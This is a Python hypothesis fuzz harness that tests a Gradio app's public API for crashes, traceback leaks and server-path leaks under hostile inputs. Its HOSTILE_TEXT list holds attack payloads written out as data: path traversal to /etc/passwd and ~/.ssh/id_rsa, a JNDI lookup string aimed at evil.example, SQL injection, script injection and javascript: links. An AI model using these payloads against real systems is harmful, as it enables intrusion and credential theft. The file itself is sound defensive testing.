"""Property-based fuzz of a live app's public API: every named endpoint, its parameters read from the app itself
(`view_api`), each called with hostile values (server paths, `..`, format specs, huge and negative numbers, NaN,
1 MB strings, odd unicode, Markdown and HTML, values of the wrong type). The property: every answer is a result
or a one-line user error, never a traceback or a server path, within TIMEOUT_SECONDS; the app serves after.
tests/security/test_fuzz.py runs it in the suite; bench/fuzz.py runs it at size and writes the figures."""
from __future__ import annotations

import json
import tempfile
import time
from dataclasses import dataclass, field

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

TIMEOUT_SECONDS = 30
HOSTILE_TEXT = [
    "", " ", "..", "../../etc/passwd", "/etc/passwd", "/etc", "/nonexistent", "/dev/zero", "/proc/self/environ",
    "~/.ssh/id_rsa", "file:///etc/passwd", "C:\\Windows\\win.ini", "run:..", "run:../../etc", "run:20261202-000000-x",
    "bundled:../../x", "{text:>1000000000}", "{text.__class__.__mro__}", "{0}", "{labels!r}", "{", "}", "{{}}",
    "%s%s%n", "${jndi:ldap://evil.example/a}", "'; DROP TABLE runs; --", "<script>alert(1)</script>",
    "![pixel](https://evil.example/p.png)", "[claim](javascript:alert(1))", "\x00", "\u202egnp.exe", "\ufeff",
    "𝕏" * 500, "😀" * 300, "a\nb\rc\td", "nan", "inf", "-1", "1e309", "all", "sample", "hub", "auto", "lora",
    "train_size=1,2", "corpus=/etc/passwd", "forgetting_text=/dev/zero", "k=999999", "A" * 1_000_000,
    "x" * 70_000, "gpt2", "openai-community/gpt2", "K7QX2M", "k7qx2m",
]
HOSTILE_INT = [-1, 0, 1, 2, 3, 7, -2**31, 2**31, 2**63, -2**63, 10**30, 10**4000]
# NaN and the infinities travel as the strings a JSON client can send (gradio_client refuses to encode a float NaN).
HOSTILE_FLOAT = ["nan", "NaN", "inf", "-inf", "Infinity", 0.0, -0.0, 1e-300, 5e-324, 1e308, -1e308, 0.5, 2.0]
WRONG_TYPE = [None, [], {}, ["/etc/passwd"], {"path": "/etc/passwd"}, {"path": "/etc/passwd", "meta": {
    "_type": "gradio.FileData"}}, True, 1.5, "1", 42]


def hostile(kind: str):
    """Values for a parameter of this JSON type: mostly hostile values of its own type, sometimes of another."""
    own = {
        "str": st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=60)),
        "int": st.one_of(st.sampled_from(HOSTILE_INT), st.integers()),
        "float": st.one_of(st.sampled_from(HOSTILE_FLOAT), st.floats(allow_nan=False, allow_infinity=False)),
        "bool": st.booleans(),
    }
    base = next((v for k, v in own.items() if k in kind), own["str"])
    if "None" in kind:
        base = st.one_of(base, st.none())
    return st.one_of(base, base, base, st.sampled_from(WRONG_TYPE))


@dataclass
class Tally:
    calls: int = 0
    results: int = 0
    user_errors: int = 0
    seconds: list = field(default_factory=list)
    problems: list = field(default_factory=list)  # (endpoint, kwargs summary, what was wrong)
    by_endpoint: dict = field(default_factory=dict)

    def to_dict(self) -> dict:
        s = sorted(self.seconds) or [0.0]
        return {"calls": self.calls, "results": self.results, "user_errors": self.user_errors,
                "problems": len(self.problems), "over_timeout": sum(x > TIMEOUT_SECONDS for x in s),
                "median_seconds": round(s[len(s) // 2], 3), "p95_seconds": round(s[int(len(s) * 0.95) - 1], 3),
                "max_seconds": round(s[-1], 3), "by_endpoint": self.by_endpoint}


def _short(value) -> str:
    text = repr(value)
    return text if len(text) <= 60 else text[:57] + "..."


def message_of(error: Exception) -> str | None:
    """The user error a gradio_client exception carries (None: not a user error). A ValidationError lists
    "- parameter: message" lines under a header; an AppError is the gr.Error's message."""
    from gradio_client.exceptions import AppError, ValidationError

    if isinstance(error, ValidationError):
        lines = [line for line in str(error).splitlines() if line.startswith("- ")]
        return lines[0].split(": ", 1)[-1] if len(lines) == 1 else None
    if isinstance(error, AppError):
        return str(error)
    return None


class Fuzzer:
    def __init__(self, url: str, server_folders: list[str]):
        from gradio_client import Client

        self.client = Client(url, verbose=False)
        self.client.predict(source="sample", train_size="60", eval_size="24", api_name="/load_data")
        api = self.client.view_api(print_info=False, return_format="dict")["named_endpoints"]
        self.endpoints = {name: [(p["parameter_name"], p["python_type"]["type"], bool(p.get("parameter_has_default")))
                                 for p in ep["parameters"]] for name, ep in api.items()}
        self.folders = [f for f in server_folders if f]
        self.tally = Tally()

    def call(self, endpoint: str, kwargs: dict) -> None:
        """One hostile call: counted, timed, and checked against the property."""
        t0 = time.perf_counter()
        problem = None
        try:
            answer = self.client.predict(**kwargs, api_name=endpoint)
            text, kind = json.dumps(answer, default=str), "result"
        except Exception as e:  # what the visitor sees
            text, kind = str(e), "user error"
            message = message_of(e)
            if message is None:
                problem = f"not a user error: {type(e).__name__}: {str(e)[:200]}"
            elif "\n" in message.strip():
                problem = f"a message of several lines: {message[:200]!r}"
        seconds = time.perf_counter() - t0
        leaked = [f for f in self.folders if f in text] + (["a traceback"] if "Traceback (most recent" in text else [])
        if leaked:
            problem = f"the answer shows {leaked}: {text[:200]}"
        if seconds > TIMEOUT_SECONDS:
            problem = f"took {seconds:.1f} s"
        t = self.tally
        t.calls += 1
        t.seconds.append(seconds)
        t.results += kind == "result" and problem is None
        t.user_errors += kind == "user error" and problem is None
        t.by_endpoint[endpoint] = t.by_endpoint.get(endpoint, 0) + 1
        if problem:
            t.problems.append((endpoint, {k: _short(v) for k, v in kwargs.items()}, problem))
        assert problem is None, (endpoint, {k: _short(v) for k, v in kwargs.items()}, problem)

    def run(self, endpoint: str, examples: int, seed: int = 0) -> None:
        """`examples` hostile calls of one endpoint (hypothesis shrinks a failing one to its simplest form)."""
        params = self.endpoints[endpoint]  # a required parameter is always sent (the client insists on it)
        strategy = st.fixed_dictionaries({name: hostile(kind) for name, kind, default in params if not default},
                                         optional={name: hostile(kind) for name, kind, default in params if default})

        @settings(max_examples=examples, deadline=None, database=None, derandomize=True,
                  suppress_health_check=list(HealthCheck), phases=("generate", "shrink"))
        @given(strategy)
        def property_holds(kwargs):
            self.call(endpoint, kwargs)

        property_holds()


def server_folders(runs_dir) -> list[str]:
    """What no answer may show: the runs folder, the caches, Gradio's uploads, the project, the libraries."""
    from comparisons.ground.settings import PROJECT_ROOT
    from comparisons.ground.settings import settings as app_settings

    return [str(runs_dir), str(app_settings().cache_dir), tempfile.gettempdir() + "/gradio", str(PROJECT_ROOT),
            "site-packages"]


def alive(url: str) -> bool:
    import httpx

    try:
        return httpx.get(url + "config", timeout=10).status_code == 200
    except httpx.HTTPError:
        return False


ENDPOINT_ORDER = ["/load_data", "/classify", "/run_finetune", "/run_fewshot", "/run_rag", "/run_baseline",
                  "/run_setfit", "/run_adapt", "/run_all", "/run_study", "/compare", "/my_runs", "/delete_run",
                  "/push_to_hub", "/create_board", "/join_board", "/board", "/remove_board_entry", "/freeze_board",
                  "/recommend", "/stop"]
FUZZ_ENV = {"TPR_MAX_JOB_MINUTES": "0.05", "TPR_MAX_STUDY_MINUTES": "0.1", "TPR_MAX_RUNS": "100000",
            "TPR_MAX_QUEUED_JOBS": "2", "TPR_NEW_VISITORS_PER_HOUR": "1000"}
# Why the caps above: a valid but heavy call (a fine-tuning of the bundled 135M model on the sample) is refused by its
# 3-second ceiling, as a visitor's would be by the default one, so that thousands of calls take minutes; the cheap
# methods (RAG, TF-IDF) still run for real on the sample.
